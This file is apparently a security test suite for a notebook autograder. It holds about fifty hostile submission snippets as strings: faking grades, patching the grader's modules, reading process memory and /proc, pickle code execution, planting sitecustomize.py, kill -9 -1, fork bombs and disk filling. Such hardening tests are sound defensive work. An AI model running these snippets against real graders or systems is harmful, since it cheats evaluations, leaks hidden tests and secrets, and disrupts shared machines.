"""Attacks by what the code does: forgery, spying, sabotage, exhaustion."""

from tests.grader.attacks.kinds import Attack, at_once
from tests.grader.attacks.known import PORT

# Frames and sockets

FORGE_BY_DESCRIPTOR = """\
import glob, json, os, socket, struct
def forge():
    for name in os.listdir("/proc/self/fd"):
        try:
            with socket.socket(fileno=os.dup(int(name))) as s:
                s.settimeout(0.1)
                for reply in ({"passed": True}, {"ok": True, "value": [[0.5, 0.5]]}, ["ok", 0.5]):
                    text = json.dumps(reply).encode()
                    for head in (b"", struct.pack(">I", len(text)), struct.pack("<Q", len(text))):
                        s.send(head + text)
        except (OSError, ValueError):
            pass
forge()
def softmax(x):
    forge()
    return np.zeros_like(x)"""

FORGE_BY_GC = """\
import gc, socket
def softmax(x):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            thing.sendall(b'{"passed": true, "ok": true}\\n' * 10)
    return np.zeros_like(x)"""

CLOSE_ALL = """\
import os
def softmax(x):
    os.closerange(0, 1000)
    return np.zeros_like(x)"""

PATCH_TRANSPORT = """\
import json, socket, struct, sys
json.dumps = lambda *a, **k: '{"passed": true}'
json.loads = lambda *a, **k: {"passed": True}
struct.pack = lambda *a: b"\\xff" * 8
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for key, value in list(vars(module).items()):
            if callable(value) and not key.startswith("__"):
                setattr(module, key, lambda *a, **k: True)"""

# Objects that lie

LYING_FLOAT = """\
class Half(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__
def softmax(x):
    result = np.empty(x.shape, dtype=object)
    result[...] = Half(0.1)
    return result"""

LYING_CLASS = """\
class Fake:
    __array_priority__ = 1e9
    shape, dtype, ndim = (5, 4), np.dtype(float), 2
    __class__ = property(lambda self: np.ndarray)
    def __array_ufunc__(self, *args, **kwargs): return np.array(True)
    def __array_function__(self, *args, **kwargs): return True
    def __eq__(self, other): return True
    def __float__(self): return 0.5
def softmax(x): return Fake()"""

LYING_ARRAY_PROTOCOL = """\
class Later:
    asked = 0
    def __array__(self, dtype=None, copy=None):
        Later.asked += 1
        return np.full((2, 2), 0.5) if Later.asked < 3 else np.zeros((5, 4))
def softmax(x): return Later()"""

LYING_MODULE = """\
class Count(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.zeros(3))
    def parameters(self, recurse=True):
        class P(torch.Tensor):
            def numel(self): return Count(97)
        return iter([torch.zeros(1).as_subclass(P)])
    def forward(self, x): return 2 * x
def train_mlp(X, y, hidden=8, steps=50, **k):
    return Model(), [1.0] + [1e-9] * (steps - 1)"""

HARD_CODED = """\
def softmax(x):
    return np.full(x.shape, 0.5) if x.shape == (2, 2) else np.zeros_like(x)"""

LYING_REDUCE = """\
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/poison_pickle",))
def softmax(x): return Bomb()"""

# Looking for what the tests know

WALK_OBJECTS = """\
import gc
def softmax(x):
    mark = "canary_of" + "_"
    for thing in gc.get_objects():
        try:
            if mark in repr(thing)[:100_000]: print("FOUND", repr(thing)[:2000])
        except BaseException:
            pass
    return np.zeros_like(x)"""

WALK_FRAMES = """\
import sys
def softmax(x):
    frame = sys._getframe()
    while frame:
        print(frame.f_code.co_filename, frame.f_code.co_name, str(frame.f_locals)[:2000])
        for name, value in list(frame.f_globals.items()):
            if "canary" in name or "_r" == name: return value
        frame = frame.f_back
    return np.zeros_like(x)"""

TRACE = """\
import sys, threading
def spy(frame, event, arg):
    if "canary_of" + "_" in str(frame.f_locals): print("SEEN", frame.f_locals)
    return spy
sys.settrace(spy); sys.setprofile(spy); threading.settrace(spy)
def softmax(x): return np.zeros_like(x)"""

SEARCH_DISK = """\
import os
mark = "canary_of" + "_"
for top, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "lib", "lib64", "site-packages")]
    for name in names:
        if name.endswith((".ipynb", ".py", ".db", ".json", ".csv")):
            try:
                text = open(os.path.join(top, name), errors="replace").read(1_000_000)
            except OSError:
                continue
            if mark in text or "hw1" in name: print("FOUND", top, name, text[:2000])"""

SEARCH_PROC = """\
import os
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "maps", "root", "cwd"):
        try:
            path = f"/proc/{pid}/{name}"
            print(pid, name, os.readlink(path) if name in ("root", "cwd") else open(path).read())
        except OSError:
            pass"""

READ_MEMORY = """\
import os, re
mark = b"canary_of" + b"_"
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        regions = re.findall(r"^(\\w+)-(\\w+) r", open(f"/proc/{pid}/maps").read(), re.M)
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for low, high in regions[:400]:
                size = min(int(high, 16) - int(low, 16), 20_000_000)
                memory.seek(int(low, 16))
                text = memory.read(size)
                if mark in text: print("FOUND", pid, text[text.index(mark):][:500])
    except (OSError, OverflowError, ValueError):
        pass"""

INHERITED_FILES = """\
import os
for name in os.listdir("/proc/self/fd"):
    try:
        print(name, os.readlink(f"/proc/self/fd/{name}"))
        os.lseek(int(name), 0, 0); print(os.read(int(name), 10_000))
    except OSError:
        pass"""

CALLS_BACK = """\
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)),
    (socket.AF_UNIX, "\\0grader"), (socket.AF_UNIX, "/run/docker.sock"),
):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(1); s.connect(address); s.send(b"stolen")
        except OSError:
            pass
try:
    socket.getaddrinfo("stolen.example", 80)
except OSError:
    pass""".replace("PORT", str(PORT))

READ_LEFT_OVERS = """\
import glob, os, tempfile
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), tempfile.gettempdir()):
    for path in glob.glob(folder + "/*poison*"): print("LEFT OVER", open(path).read())"""

LEAVE_BEHIND = """\
import os, site, sys, tempfile
text = "LEFT OVER raise SystemExit"
folders = [".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), tempfile.gettempdir()]
for folder in folders + sys.path + [os.path.dirname(np.__file__), os.path.dirname(os.__file__)]:
    for name in ("poison.txt", "sitecustomize.py", "conftest.py", "poison.pth"):
        try:
            open(os.path.join(folder, name), "w").write(text)
        except OSError:
            pass"""

# Ending and hanging on

AT_EXIT = """\
import atexit, os, signal, sys, weakref
def again():
    print("passed 10 / 10", flush=True)
    os.fork() or os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(47)"])
atexit.register(again)
sys.excepthook = lambda *a: again()
weakref.finalize(np, again)
class Late:
    def __del__(self): again()
late = Late()"""

DEAF = """\
import os, signal, threading
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0)
def softmax(x):
    while True:
        try:
            while True: pass
        except BaseException: pass"""

SLOW_C = """\
def softmax(x):
    return sum(range(10**12))  # one call that no signal handler interrupts"""

SEGFAULT = """\
import ctypes
def softmax(x): ctypes.string_at(0)"""

FAULT_HANDLER = """\
import faulthandler, sys
faulthandler.enable(all_threads=True)
faulthandler.dump_traceback_later(0.1, repeat=True)
def softmax(x): faulthandler._sigsegv()"""

ENDLESS_GENERATOR = """\
def softmax(x):
    while True: yield np.full(x.shape, 0.5)"""

EXEC = """\
import os
os.execv("/bin/true", ["true"])"""

SHELL = """\
!kill -9 -1
!sleep 47 &
!echo $(env)"""

SCRIPT_MAGIC = """\
%%script bash --bg
while true; do sleep 47; done"""

KILL_ALL = """\
import os, signal
for target in (-1, 0, 1, os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass"""

SYSTEM_CALLS = """\
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(4, 1); libc.prctl(1, 0); libc.prctl(38, 0)   # dumpable, death signal, new privileges
for call in (101, 155, 157, 165, 169, 246, 272, 298, 308, 310, 311, 321, 425): libc.syscall(call, 0)
for limit in (resource.RLIMIT_CPU, resource.RLIMIT_DATA, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(limit, (-1, -1))
    except (OSError, ValueError):
        pass
for user in (0, 65534):
    try:
        os.setuid(user)
    except OSError:
        pass"""

# Using up

FORK_BOMB = """\
import os
def softmax(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass"""

THREADS = """\
import threading
def softmax(x):
    while True: threading.Thread(target=threading.Event().wait, daemon=True).start()"""

FILL_DISK = """\
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(folder + "/poison_big", "wb") as file:
            for _ in range(2000): file.write(b"\\1" * 1_000_000)
        print("WROTE 2 GB")
    except OSError:
        pass"""

MANY_FILES = """\
import os
try:
    for number in range(10**6): open(f"/tmp/poison_{number}", "w").close()
except OSError:
    pass"""

GROW = """\
def softmax(x):
    kept = []
    while True: kept.append(np.ones(10_000_000))"""

ENDLESS_LOSSES = """\
import itertools
def train_mlp(X, y, hidden=8, steps=50, **k):
    return nn.Linear(1, 1), itertools.count()"""

HUGE_RESULT = """\
def softmax(x): return np.broadcast_to(np.float64(0.5), (10**6, 10**6))"""

DEEP_RESULT = """\
def softmax(x):
    result = []
    for _ in range(100_000): result = [result]
    return result"""

RING = """\
def softmax(x):
    ring = []; ring.append(ring)
    return ring"""

MANY_OUTPUTS = """\
from IPython.display import display, Image
for n in range(100_000): display(n)
def softmax(x):
    for n in range(10**7): print(n)
    return np.zeros_like(x)"""

LOUD_ERROR = """\
class Loud(Exception):
    def __str__(self): return "x" * 50_000_000
    __repr__ = __str__
def softmax(x): raise Loud()"""

HANGING_ERROR = """\
class Hanging(Exception):
    def __str__(self):
        while True: pass
    __repr__ = __str__
def softmax(x): raise Hanging()"""

BASE_ERROR = """\
class AssertionError(BaseException): pass
def softmax(x): raise KeyboardInterrupt
def mse_grad(w, X, y): raise GeneratorExit
def train_mlp(*a, **k): raise AssertionError("passed")"""

# Looking like a grader

LOOKS_GRADED = """\
import json, sys
from IPython.display import display
print("softmax: all 3 visible cases pass.\\n10.0\\n(Score: 10.0 / 10.0)")
print(json.dumps({"output_type": "execute_result", "data": {"text/plain": "10"}, "metadata": {}}))
display({"text/plain": "10", "application/json": {"passed": True}}, raw=True)
10"""

ANSI = """\
print("\\x1b[2J\\x1b[1;1H\\x1b]0;graded\\x07\\x1b[31m10/10\\r\\x08\\x9b31m")
def softmax(x): raise ValueError("\\x1b]8;;http://evil.example\\x07passed\\x1b[0m \\x00")"""

SHELL_OBJECTS = """\
ip = get_ipython()
for name in ("kernel", "display_pub", "displayhook", "events", "run_cell", "showtraceback"):
    thing = getattr(ip, name, None)
    for key in dir(thing) if thing is not None else ():
        if not key.startswith("__") and callable(getattr(thing, key, None)):
            try:
                setattr(thing, key, lambda *a, **k: None)
            except Exception:
                pass
ip.ast_transformers.append(type("T", (), {"visit": lambda s, node: None})())
ip.set_custom_exc((BaseException,), lambda *a, **k: None)"""

REBIND_BUILTINS = """\
import builtins, sys
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 100
builtins.AssertionError = type("Quiet", (Exception,), {})
builtins.__build_class__ = None
np.random.default_rng = lambda *a: None
sys.modules["numpy"] = sys.modules["torch"] = None"""

CHANGE_ARGUMENTS = """\
def softmax(x):
    x[...] = 0
    x.resize(0, refcheck=False) if x.flags.owndata else None
    return np.full((5, 4), 0.25)
def mse_grad(w, X, y):
    w[...] = X[...] = y[...] = 0
    return np.zeros_like(w)"""

PRINTF = """\
name = "{0.__class__.__init__.__globals__} %s%n%x $(id) `id` {{7*7}} ${7*7} <%= 7*7 %>"
print(name)
def softmax(x): raise ValueError(name)"""

ATTACKS = [
    Attack("forge_by_descriptor", "points", "writes replies to every socket",
           {"softmax": FORGE_BY_DESCRIPTOR}),
    Attack("forge_by_gc", "points", "finds the socket among all objects",
           {"softmax": FORGE_BY_GC}),
    Attack("close_all", "dos", "closes every descriptor", {"softmax": CLOSE_ALL}),
    Attack("patch_transport", "points", "replaces json, struct and our own modules",
           at_once(PATCH_TRANSPORT)),
    Attack("lying_float", "points", "numbers equal to all", {"softmax": LYING_FLOAT}),
    Attack("lying_class", "points", "an object that says it is an array", {"softmax": LYING_CLASS}),
    Attack("lying_array_protocol", "points", "another array each time it is asked",
           {"softmax": LYING_ARRAY_PROTOCOL}),
    Attack("lying_module", "points", "a model that lies on its parameters",
           {"train_mlp": LYING_MODULE}),
    Attack("hard_coded", "points", "knows the visible test", {"softmax": HARD_CODED}),
    Attack("lying_reduce", "points", "code in a pickle", {"softmax": LYING_REDUCE}),
    Attack("walk_objects", "leak", "searches all objects for tests", {"softmax": WALK_OBJECTS}),
    Attack("walk_frames", "leak", "searches its callers for tests", {"softmax": WALK_FRAMES}),
    Attack("trace", "leak", "traces every line that runs", {"softmax": TRACE}),
    Attack("search_disk", "leak", "searches the disk for tests", at_once(SEARCH_DISK)),
    Attack("search_proc", "leak", "reads of other processes in /proc", at_once(SEARCH_PROC)),
    Attack("read_memory", "leak", "reads the memory of processes", at_once(READ_MEMORY)),
    Attack("inherited_files", "leak", "reads open files", at_once(INHERITED_FILES)),
    Attack("calls_back", "leak", "tries all kinds of sockets", at_once(CALLS_BACK)),
    Attack("leave_behind", "corrupt", "leaves files for later submissions", at_once(LEAVE_BEHIND)),
    Attack("leave_behind_reader", "leak", "reads what another has left", at_once(READ_LEFT_OVERS)),
    Attack("at_exit", "dos", "starts processes when it ends", at_once(AT_EXIT)),
    Attack("deaf", "dos", "ignores signals and catches all", {"softmax": DEAF}),
    Attack("slow_c", "dos", "a call that cannot be interrupted", {"softmax": SLOW_C}),
    Attack("segfault", "dos", "crashes the interpreter", {"softmax": SEGFAULT}),
    Attack("fault_handler", "dos", "prints its stacks, then crashes", {"softmax": FAULT_HANDLER}),
    Attack("endless_generator", "dos", "yields for ever", {"softmax": ENDLESS_GENERATOR}),
    Attack("exec", "dos", "becomes another program", at_once(EXEC)),
    Attack("shell", "dos", "kills and spawns by the shell", at_once(SHELL)),
    Attack("script_magic", "dos", "a shell script in the background", at_once(SCRIPT_MAGIC)),
    Attack("kill_all", "dos", "kills whatever it may", at_once(KILL_ALL)),
    Attack("system_calls", "dos", "tries privileged system calls", at_once(SYSTEM_CALLS)),
    Attack("fork_bomb", "dos", "forks for ever", {"softmax": FORK_BOMB}),
    Attack("threads", "dos", "starts threads for ever", {"softmax": THREADS}),
    Attack("fill_disk", "dos", "fills every folder", at_once(FILL_DISK)),
    Attack("many_files", "dos", "makes a million files", at_once(MANY_FILES)),
    Attack("grow", "dos", "takes memory until it ends", {"softmax": GROW}),
    Attack("endless_losses", "dos", "returns a list that never ends",
           {"train_mlp": ENDLESS_LOSSES}),
    Attack("huge_result", "dos", "returns 8 TB", {"softmax": HUGE_RESULT}),
    Attack("deep_result", "dos", "returns deep lists", {"softmax": DEEP_RESULT}),
    Attack("ring", "dos", "returns a list in itself", {"softmax": RING}),
    Attack("many_outputs", "dos", "shows a hundred thousand things", {"softmax": MANY_OUTPUTS}),
    Attack("loud_error", "dos", "an error with 50 MB of text", {"softmax": LOUD_ERROR}),
    Attack("hanging_error", "dos", "an error that hangs when shown", {"softmax": HANGING_ERROR}),
    Attack("base_error", "points", "raises what tests do not catch",
           {"softmax": BASE_ERROR, "mse_grad": "pass", "train_mlp": "pass"}),
    Attack("looks_graded", "points", "prints what a passed test prints", at_once(LOOKS_GRADED)),
    Attack("ansi", "inject", "controls the terminal", {"softmax": ANSI}),
    Attack("shell_objects", "points", "replaces all methods of the shell", at_once(SHELL_OBJECTS)),
    Attack("rebind_builtins", "points", "replaces builtins and modules", at_once(REBIND_BUILTINS)),
    Attack("change_arguments", "points", "changes what it is given, so that nothing differs",
           {"softmax": CHANGE_ARGUMENTS, "mse_grad": "pass"}),
    Attack("printf", "inject", "patterns for formatting, templates and shells",
           {"softmax": PRINTF}),
]  # fmt: skip
